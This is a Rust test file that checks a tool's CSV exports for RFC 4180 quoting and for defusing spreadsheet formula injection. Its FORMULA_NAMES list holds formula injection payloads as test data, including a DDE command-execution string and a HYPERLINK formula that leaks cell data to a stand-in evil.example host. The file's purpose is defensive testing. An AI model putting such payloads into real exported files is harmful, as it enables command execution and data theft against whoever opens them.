//! `rel04d controls --output csv` and `rel04d history --output csv`: every row,
//! RFC 4180 quoting, read back by an independent reader.

use rel04d_simulator::Simulator;

use crate::common::process::{rel04d, stdout_of};
use crate::common::*;

/// Reads RFC 4180 text: records of fields, CRLF between records, quoted fields
/// with doubled quotes inside.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => {
                assert!(
                    c != '\n' && c != '"',
                    "bare {c:?} outside quotes in {text:.200}"
                );
                field.push(c);
            }
        }
    }
    assert!(
        field.is_empty() && record.is_empty(),
        "the last record ends with CRLF"
    );
    records
}

/// `rel04d <command> --output csv` on `env`'s database, read back.
fn export(env: &TestEnv, command: &str) -> Vec<Vec<String>> {
    read_csv(&stdout_of(
        rel04d()
            .args([command, "--output", "csv"])
            .env("REL04D__DATABASE__URL", &env.database_url),
    ))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn controls_and_history_export_every_row_as_rfc_4180() {
    const WORKLOADS: usize = 130;
    let sim = Simulator::new(REGION);
    for i in 0..WORKLOADS {
        // Names with a comma and a quote; half the reasons list two choices
        // ("Not selected: A, B"), so they hold commas too.
        let selected = if i % 2 == 0 {
            &ALL_FOUR[..]
        } else {
            &ALL_FOUR[..2]
        };
        sim.add_workload(workload(
            &format!("csv \"{i:03}\", team"),
            answer(selected, &[], true),
        ));
    }
    let env = TestEnv::start(sim, &format!("[policies.global]\n{ALL_TRUE}\n")).await;
    env.sweep().await;
    let export = |command| export(&env, command);

    let controls = export("controls");
    assert_eq!(controls[0][..3], ["state", "muted", "workload_name"]);
    assert_eq!(controls.len(), WORKLOADS + 1, "a header and every control");
    let stored = env.controls("").await;
    for row in &controls[1..] {
        assert_eq!(row.len(), controls[0].len());
        let control = stored.iter().find(|c| c.workload_id == row[3]).unwrap();
        assert_eq!(row[0], control.state.as_str());
        assert_eq!(row[2], control.workload_name);
        assert_eq!(row[10], control.reason);
        assert_eq!(row[8], control.updated_at, "full timestamps");
    }
    assert!(
        controls.iter().any(|r| r[10].contains(", ")),
        "some reasons hold commas"
    );

    let history = export("history");
    assert_eq!(history[0][..3], ["id", "occurred_at", "workload_id"]);
    assert_eq!(history.len(), env.transitions().await.len() + 1);
    assert!(history.len() > 2 * WORKLOADS, "{}", history.len());
    env.stop().await;
}

/// Workload names chosen by a hostile owner to run in the reader's spreadsheet
/// (the issue's own examples, and a tab and a CR before a formula).
const FORMULA_NAMES: [&str; 6] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd",
    "-2+3+cmd",
    "+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "\t=1+1",
    "\r=1+1",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cells_that_would_run_as_formulas_are_exported_as_text() {
    let sim = Simulator::new(REGION);
    for name in FORMULA_NAMES {
        sim.add_workload(workload(name, answer(&ALL_FOUR, &[], true)));
    }
    let env = TestEnv::start(sim, &format!("[policies.global]\n{ALL_TRUE}\n")).await;
    env.sweep().await;
    let export = |command| export(&env, command);
    let controls = export("controls");
    assert_eq!(controls.len(), FORMULA_NAMES.len() + 1);
    for name in FORMULA_NAMES {
        assert!(
            controls.iter().any(|row| row[2] == format!("'{name}")),
            "{name:?} not defused: {controls:?}"
        );
    }
    for rows in [controls, export("history")] {
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
    }
    env.stop().await;
}
